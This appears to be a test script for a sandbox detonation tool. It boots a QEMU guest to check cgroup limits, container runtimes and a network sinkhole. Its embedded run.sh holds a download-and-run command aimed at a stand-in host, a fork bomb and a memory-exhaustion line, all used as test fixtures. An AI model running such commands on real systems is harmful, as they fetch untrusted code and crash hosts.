#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# timeout: 400
# A detonation where cgroups are of version 2 only, on the stock Debian 12 kernel: limits, both
# runtimes, the sinkhole. What the system test proves on this machine's hybrid is not repeated.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
top=$(cd "$here/../.." && pwd)
build=${KOBAN_BUILD:-$top/build}
koban=$build/src/cmd/koban

skip_all() {
	echo "1..0 # SKIP $*"
	exit 0
}

[ -x "$koban" ] || { echo "Bail out! $koban is not built"; exit 1; }
command -v qemu-system-x86_64 >/dev/null || skip_all "needs qemu-system-x86"
kernel=$(find /boot -name 'vmlinuz-6.1*-cloud-amd64' 2>/dev/null | sort -V | tail -n 1)
[ -n "$kernel" ] || skip_all "needs linux-image-cloud-amd64"
overlay=/lib/modules/${kernel#/boot/vmlinuz-}/kernel/fs/overlayfs/overlay.ko
[ -r "$overlay" ] || skip_all "needs $overlay"
runc=$(command -v runc) || skip_all "needs runc"

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
# The image is the system test's, with a script that shows what it got.
cat >"$work/run.sh" <<'END'
wget -q -O /tmp/x.sh http://drop.example.invalid/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh && echo RAN
f() { f | f & }
[ "$1" = bomb ] && f && while :; do sleep 1; done
[ "$1" = memory ] && tail /dev/zero
true
END
python3 - "$top" "$work" <<'END'
import sys
sys.path.insert(0, sys.argv[1] + "/test/system")
import test_image_detonate as t
run = t.Layer().add("run.sh", open(sys.argv[2] + "/run.sh", "rb").read(), 0o755).done()
t.make_image(sys.argv[2] + "/image", [t.base_layer(), run],
             {"Entrypoint": ["/bin/sh", "/run.sh"], "Cmd": ["plain"], "Env": ["PATH=/bin"]})
END
set -- --file "$koban:/bin/koban" --file "$overlay:/overlay.ko" --file "$work/image:/image" \
	--file "$runc:/usr/bin/runc"
for data in rules detonation intel; do
	set -- "$@" --file "$top/data/$data:/usr/share/koban/$data"
done
if crun=$(command -v crun); then
	set -- "$@" --file "$crun:/usr/bin/crun"
fi
mem=1G
[ -z "${KOBAN_ASAN:-}" ] || mem=3G
"$here/boot.sh" --mem "$mem" --timeout 380 "$@" --script "$here/guest_detonate.sh"
